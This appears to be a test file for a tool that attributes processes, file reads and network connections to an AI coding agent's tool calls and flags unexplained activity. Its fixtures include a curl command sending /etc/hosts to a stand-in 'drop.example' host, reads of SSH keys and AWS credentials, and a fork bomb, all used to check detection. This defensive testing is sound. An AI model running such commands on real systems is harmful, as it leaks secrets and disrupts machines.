/** What agents requested and did: processes, sessions, turns, links and risks. */
import test from 'ava';
import { AgentSession, agentPid, runAgentRecords, workFolder } from './agent-telemetry.ts';

const describeEvents = (records: AgentSession): string[] =>
  runAgentRecords(records.records)
    .events.filter(({ link }) => link !== '')
    .map(({ kind, link, command, path, hostName, callId }) =>
      `${link} ${kind} ${path || hostName || command} ${callId}`.trim(),
    );

test('effects that a tool call names are stated, those of its processes are likely, and others are unexplained', (t) => {
  const session = new AgentSession()
    .start()
    .prompt('Run the tests and fix what fails')
    .bash('call_1', 'npm test && cat src/cart.ts', 4_001)
    .exec(4_002, 4_001, '/usr/bin/node', 'node /usr/bin/npm test')
    .file(4_002, `${workFolder}/package.json`)
    .exec(4_003, 4_001, '/usr/bin/cat', 'cat src/cart.ts')
    .file(4_003, `${workFolder}/src/cart.ts`)
    .result('call_1', '1 failed')
    .respond('', [{ id: 'call_2', name: 'Edit', input: { file_path: `${workFolder}/src/cart.ts`, new_string: 'x' } }])
    .file(agentPid, `${workFolder}/src/cart.ts`, 577)
    .connect(agentPid, 'api.anthropic.com')
    .file(agentPid, '/Users/ann/.claude/projects/x.jsonl', 1)
    .exec(4_010, agentPid, '/usr/bin/curl', 'curl -d @/etc/hosts https://drop.example/x')
    .connect(4_010, 'drop.example')
    .file(agentPid, '/Users/ann/.ssh/id_ed25519');
  t.deepEqual(describeEvents(session), [
    'stated process_start /bin/bash -c npm test && cat src/cart.ts call_1',
    'likely process_start node /usr/bin/npm test call_1',
    `likely file ${workFolder}/package.json call_1`,
    'stated process_start cat src/cart.ts call_1',
    `stated file ${workFolder}/src/cart.ts call_1`,
    `stated file ${workFolder}/src/cart.ts call_2`,
    'likely connection api.anthropic.com',
    'likely file /Users/ann/.claude/projects/x.jsonl',
    'unexplained process_start curl -d @/etc/hosts https://drop.example/x',
    'unexplained connection drop.example',
    'unexplained file /Users/ann/.ssh/id_ed25519',
  ]);
});

test('a shell without arguments, helpers of a search and servers of tools are likely while the tool runs', (t) => {
  const session = new AgentSession()
    .start()
    .exec(4_100, agentPid, '/usr/bin/node', 'node /opt/mcp/server.js')
    .prompt('Where is the price computed?')
    .respond('', [{ id: 'call_1', name: 'Grep', input: { pattern: 'price' } }])
    .exec(4_101, agentPid, '/usr/bin/rg', 'rg --json price')
    .file(4_101, `${workFolder}/src/price.ts`)
    .result('call_1', 'src/price.ts')
    .respond('', [{ id: 'call_2', name: 'mcp__db__query', input: { sql: 'SELECT 1' } }])
    .connect(4_100, 'db.internal', 5432)
    .result('call_2', '1')
    .connect(4_100, 'elsewhere.example')
    .respond('', [{ id: 'call_3', name: 'Bash', input: { command: 'make' } }])
    .exec(4_102, agentPid, '/bin/sh')
    .exec(4_103, 4_102, '/usr/bin/cc')
    .exec(4_104, agentPid, '/usr/bin/curl');
  t.deepEqual(describeEvents(session), [
    'likely process_start node /opt/mcp/server.js',
    'likely process_start rg --json price call_1',
    `likely file ${workFolder}/src/price.ts call_1`,
    'likely connection db.internal call_2',
    'unexplained connection elsewhere.example',
    'likely process_start  call_3',
    'likely process_start  call_3',
    'unexplained process_start',
  ]);
});

test('sessions have turns, and end after thirty idle minutes or with another conversation', (t) => {
  const first = new AgentSession().start().prompt('One').respond('Done').prompt('Two').respond('Done');
  const next = new AgentSession({ startMs: first.nowMs, conversation: '0d3adb3e-0000-4000-8000-000000000002' })
    .prompt('Three')
    .respond('Done');
  const last = new AgentSession({
    startMs: next.nowMs + 31 * 60_000,
    conversation: '0d3adb3e-0000-4000-8000-000000000002',
  })
    .prompt('Four')
    .respond('Done');
  const { events } = runAgentRecords([...first.records, ...next.records, ...last.records]);
  const prompts = events.filter(({ kind }) => kind === 'model_request');
  t.deepEqual(
    prompts.map(({ text, turn }) => `${turn} ${text}`),
    ['1 One', '2 Two', '1 Three', '1 Four'],
  );
  t.is(new Set(prompts.map(({ sessionId }) => sessionId)).size, 3);
  t.is(new Set(prompts.map(({ agentId }) => agentId)).size, 1);
  t.deepEqual(new Set(events.map(({ agent }) => agent)), new Set(['claude-code']));
});

test('a PID that was reused is another process, also if no source reported the exit', (t) => {
  const first = new AgentSession()
    .start()
    .prompt('Build it')
    .bash('call_1', 'make', 4_001)
    .exec(4_002, 4_001, '/usr/bin/make', 'make')
    .exit(4_001)
    .exit(agentPid);
  const second = new AgentSession({
    startMs: first.nowMs + 60_000,
    pid: 5_000,
    conversation: '0d3adb3e-0000-4000-8000-000000000002',
  })
    .start()
    .exec(4_001, 1, '/usr/bin/cron', 'cron')
    .exec(4_002, 4_001, '/usr/bin/curl', 'curl https://drop.example');
  const { events } = runAgentRecords([...first.records, ...second.records]);
  const ofPid = events.filter(({ pid, kind }) => pid === 4_002 && kind === 'process_start');
  t.is(new Set(ofPid.map(({ processId }) => processId)).size, 2);
  t.deepEqual(
    ofPid.map(({ agent }) => agent),
    ['claude-code', ''],
  );
});

const busySession = () =>
  new AgentSession()
    .start()
    .prompt('Run the tests')
    .bash('call_1', 'npm test', 4_001)
    .exec(4_002, 4_001, '/usr/bin/node', 'node /usr/bin/npm test')
    .file(4_002, `${workFolder}/package.json`)
    .result('call_1', 'ok')
    .respond('Done')
    .prompt('Thanks')
    .exec(4_010, agentPid, '/usr/bin/curl', 'curl https://drop.example');

test('events and links do not depend on batches and restarts', (t) => {
  const { records } = busySession();
  const expected = runAgentRecords(records, { perMessage: 1_000 }).events.map(({ kind, link, turn }) => [
    kind,
    link,
    turn,
  ]);
  for (const options of [{ perMessage: 1 }, { perMessage: 3, restarts: true }])
    t.deepEqual(
      runAgentRecords(records, options).events.map(({ kind, link, turn }) => [kind, link, turn]),
      expected,
    );
});

test('a fork bomb, clocks that are years off and broken values lose no event', (t) => {
  const session = new AgentSession().start().prompt('Go').bash('call_1', ':(){ :|:& };:', 10_000);
  for (let pid = 10_001; pid < 12_000; pid++) session.exec(pid, pid - 1, '/bin/bash');
  const wrong = [-1, 0, 1.5, '2019', 1_500_000_000_000, 9e18, null].map((timestamp, index) => ({
    atMs: session.nowMs + index,
    body: {
      timestamp,
      source: 'process',
      pid: agentPid,
      comm: 'claude',
      data: { event: 'FILE_OPEN', filepath: `/srv/${index}`, flags: 'x', count: -3, bytes_lost: 'many' },
    },
  }));
  const { events } = runAgentRecords([...session.records, ...wrong], { perMessage: 200 });
  t.is(events.filter(({ kind }) => kind === 'process_start').length, 2_001);
  t.is(new Set(events.map(({ agentId }) => agentId)).size, 1);
  const files = events.filter(({ kind }) => kind === 'file');
  t.is(files.length, wrong.length);
  for (const { timeMs, count, lostBytes } of files) {
    t.true(Math.abs(timeMs - session.nowMs) < 60_000);
    t.deepEqual([count, lostBytes], [1, 0]);
  }
});

test('events of Falco and Tetragon count in process trees of agents only', (t) => {
  const session = busySession();
  const falco = (pid: number, more: object) => ({
    atMs: session.nowMs,
    body: { hostname: 'laptop', rule: 'r', output_fields: { 'proc.pid': pid, 'proc.ppid': agentPid, ...more } },
  });
  const { events } = runAgentRecords([
    ...session.records,
    falco(4_010, { 'evt.type': 'connect', 'fd.name': '10.0.0.2:4000->203.0.113.9:443', 'fd.sip.name': 'drop.example' }),
    falco(9_999, { 'evt.type': 'openat', 'fd.name': '/etc/passwd', 'proc.ppid': 1 }),
    {
      atMs: session.nowMs,
      body: {
        node_name: 'laptop',
        process_kprobe: {
          process: { pid: 4_010, binary: '/usr/bin/curl' },
          parent: { pid: agentPid },
          function_name: 'security_file_permission',
          args: [{ file_arg: { path: '/Users/ann/.aws/credentials' } }, { int_arg: 4 }],
        },
      },
    },
  ]);
  t.deepEqual(
    events
      .filter(({ source }) => source !== 'agentsight')
      .map(({ source, link, path, hostName, address }) => [source, link, path, hostName, address]),
    [
      ['falco', 'unexplained', '', 'drop.example', '203.0.113.9'],
      ['tetragon', 'unexplained', '/Users/ann/.aws/credentials', '', ''],
    ],
  );
});

const chunk = (delta: object): string =>
  `data: ${JSON.stringify({ id: 'chatcmpl-1', model: 'gpt-4o', choices: [{ delta }] })}\n\n`;
/** Responses with one tool call, by provider. */
const responses: Readonly<Record<string, object>> = {
  'OpenAI, streamed': {
    body: [
      chunk({ tool_calls: [{ index: 0, id: 'call_9', function: { name: 'shell', arguments: '{"comm' } }] }),
      chunk({ tool_calls: [{ index: 0, function: { arguments: 'and":"ls"}' } }] }),
      'data: [DONE]\n\n',
    ].join(''),
  },
  'OpenAI responses': {
    json_body: {
      object: 'response',
      id: 'resp_1',
      model: 'gpt-5',
      output: [{ type: 'function_call', call_id: 'call_9', name: 'shell', arguments: '{"command":"ls"}' }],
    },
  },
  'Anthropic, streamed': {
    message_id: 'msg_1',
    sse_events: [
      { parsed_data: { type: 'message_start', message: { id: 'msg_1', model: 'claude-sonnet-4-5' } } },
      {
        parsed_data: {
          type: 'content_block_start',
          index: 0,
          content_block: { type: 'tool_use', id: 'call_9', name: 'shell', input: {} },
        },
      },
      {
        data: '{"type":"content_block_delta","index":0,"delta":{"type":"input_json_delta","partial_json":"{\\"command\\":\\"ls\\"}"}}',
      },
    ],
  },
  Gemini: {
    json_body: {
      responseId: 'g-1',
      modelVersion: 'gemini-2.5-pro',
      candidates: [
        { content: { parts: [{ functionCall: { id: 'call_9', name: 'shell', args: { command: 'ls' } } }] } },
      ],
    },
  },
};

for (const [provider, data] of Object.entries(responses))
  test(`tool calls are read from responses: ${provider}`, (t) => {
    const session = new AgentSession()
      .start()
      .prompt('List')
      .event('http_parser', { status_code: 200, ...data });
    const [call] = runAgentRecords(session.records).events.filter(({ kind }) => kind === 'tool_call');
    t.like(call, { callId: 'call_9', toolName: 'shell', text: '{"command":"ls"}' });
    t.not(call?.responseId, '');
    t.not(call?.model, '');
  });
